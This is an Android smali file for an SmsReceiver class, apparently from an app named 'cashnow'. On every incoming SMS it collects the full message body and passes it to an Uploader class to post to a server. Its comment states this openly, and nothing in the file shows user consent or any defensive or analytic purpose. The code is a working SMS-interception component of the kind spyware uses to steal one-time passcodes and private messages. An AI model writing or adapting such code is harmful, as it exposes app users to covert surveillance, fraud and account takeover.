.class public Lcom/example/cashnow/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

# SMS_RECEIVED receiver: forwards every incoming message body to the server.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V

    return-void
.end method


# virtual methods
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 8
    # locals v0..v4 ; p0 = this, p1 = context, p2 = intent

    invoke-static {p2}, Landroid/provider/Telephony$Sms$Intents;->getMessagesFromIntent(Landroid/content/Intent;)[Landroid/telephony/SmsMessage;
    move-result-object v0
    if-eqz v0, :done

    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    array-length v2, v0
    const/4 v3, 0x0

    :next_pdu
    if-ge v3, v2, :send
    aget-object v4, v0, v3
    invoke-virtual {v4}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v4
    invoke-virtual {v1, v4}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    add-int/lit8 v3, v3, 0x1
    goto :next_pdu

    :send
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/cashnow/Uploader;->post(Ljava/lang/String;)V

    :done
    return-void
.end method
